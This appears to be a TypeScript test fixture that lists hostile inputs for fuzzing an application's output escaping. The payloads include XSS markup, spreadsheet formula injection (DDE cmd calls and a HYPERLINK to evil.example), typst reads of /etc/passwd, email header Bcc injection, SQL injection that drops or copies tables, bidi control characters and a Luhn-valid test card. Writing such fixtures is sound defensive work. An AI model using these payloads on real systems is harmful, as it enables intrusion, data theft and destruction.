import { canary } from '../contract/fuzz/hostile.ts';

/** A card's number that somebody types where none belongs; the Luhn sum fits, no bank gave it out. */
export const typedCard = '4111117419000005';

/*
 * What turns a text into something that acts, by the place where it would: markup, a spreadsheet's cell, typst, a mail's
 * header, the database, the order of letters on a screen. Written by hand; each holds the canary, so that it is known again.
 */
export const markup: readonly string[] = [
  `<script>alert('${canary}')</script>`,
  `"><img src=x onerror=alert('${canary}')>`,
  `'><svg/onload=alert('${canary}')>`,
  `</title><script>/*${canary}*/</script>`,
  `<!--${canary}--><iframe srcdoc="<script>1</script>">`,
  `<a href="javascript:alert('${canary}')">a</a>`,
  `<math><mtext></p><script>${canary}</script>`,
];

const cells: readonly string[] = [
  `=cmd|' /C calc'!A0 ${canary}`,
  `+HYPERLINK("http://evil.example?${canary}","a")`,
  `-2+3+cmd|' ${canary}'!A0`,
  `@SUM(1+1)*cmd|'${canary}'!A0`,
  `\t=1+1 ${canary}`,
  `＝1+1 ${canary}`,
];

const typst: readonly string[] = [
  `#read("/etc/passwd") ${canary}`,
  `#import "@preview/x:0.1.0": * // ${canary}`,
  `#eval("1+1") $ sum_${canary} $`,
  `*_\`\`\`${canary} #include "../../secret"`,
];

const headers: readonly string[] = [
  `a\r\nBcc: kurban@ornek.example\r\nX-Canary: ${canary}`,
  `a\nSubject: ${canary}\n\n.\nQUIT`,
  `${canary}%0d%0aBcc:kurban@ornek.example`,
  `a\u2028Bcc: ${canary}`,
];

const statements: readonly string[] = [
  `' or '1'='1' -- ${canary}`,
  `${canary}'); select pg_sleep(5); --`,
  `\\'; drop table purchase_order; -- ${canary}`,
  `$$; copy secret to '/tmp/${canary}'; $$`,
  `${canary}" union select value from secret --`,
];

const directions: readonly string[] = [
  `Ay\u202eşe ${canary}`,
  `\u2066${canary}\u2069\u200f`,
  `${canary}\u200b\u200d\ufeff`,
];

const typedCards: readonly string[] = [
  typedCard,
  typedCard.replace(/(.{4})(?=.)/g, '$1 '),
  `kartım ${typedCard.replace(/(.{4})(?=.)/g, '$1-')} ${canary}`,
];

export const allTexts: readonly string[] = [
  ...markup,
  ...cells,
  ...typst,
  ...headers,
  ...statements,
  ...directions,
  ...typedCards,
];
